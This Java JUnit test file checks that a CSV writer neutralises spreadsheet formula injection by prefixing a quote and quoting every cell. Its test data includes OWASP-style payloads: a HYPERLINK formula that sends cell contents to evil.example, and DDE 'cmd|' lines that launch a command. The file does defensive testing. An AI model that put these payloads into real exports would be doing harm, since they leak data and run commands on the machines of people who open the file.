package dev.lucidscim.examples.support;

import java.io.IOException;
import java.io.StringReader;
import java.io.StringWriter;
import java.util.Arrays;
import java.util.List;

import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

class SpreadsheetCsvTest {

    /** OWASP's CSV injection examples, one per character a spreadsheet reads as the start of a formula. */
    static final List<String> FORMULAS = List.of("=HYPERLINK(\"https://evil.example/?\"&A1,\"Details\")",
            "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+9)*cmd|' /C calc'!A0", "\t=1+2", "\r=1+2");

    @Test
    void aCellThatWouldStartAFormulaIsReadBackAsTextWithALeadingQuote() throws IOException {
        CSVRecord row = writeAndReadBack(FORMULAS);

        assertThat(row.toList()).containsExactlyElementsOf(FORMULAS.stream().map(formula -> "'" + formula).toList());
    }

    @Test
    void otherCellsAreReadBackAsTheyWere() throws IOException {
        List<String> harmless = List.of("ana@example.com", "O'Brien, Jr.", "a=b", "Head of \"Data\",\nAnalytics",
                "'=already text", " =1+2", "");

        assertThat(writeAndReadBack(harmless).toList()).containsExactlyElementsOf(harmless);
    }

    @Test
    void aNegativeNumberIsNeutralisedToo() throws IOException {
        // the documented choice: a writer cannot tell -5 from the start of -2+3+cmd|...
        assertThat(writeAndReadBack(Arrays.asList(-5, null, true)).toList()).containsExactly("'-5", "", "true");
    }

    @Test
    void everyCellIsQuotedSoThatNoOtherDelimiterStartsACellInsideOne() throws IOException {
        StringWriter out = new StringWriter();
        SpreadsheetCsv.printRow(out, List.of("a;=cmd|' /C calc'!A0", "b\t=1+2", "plain"));

        assertThat(out.toString()).isEqualTo("\"a;=cmd|' /C calc'!A0\",\"b\t=1+2\",\"plain\"\r\n");
    }

    private static CSVRecord writeAndReadBack(List<?> cells) throws IOException {
        StringWriter out = new StringWriter();
        SpreadsheetCsv.printRow(out, cells);
        try (CSVParser parser = CSVParser.builder().setReader(new StringReader(out.toString()))
                .setFormat(SpreadsheetCsv.FORMAT).get()) {
            List<CSVRecord> rows = parser.getRecords();
            assertThat(rows).hasSize(1);
            return rows.get(0);
        }
    }
}
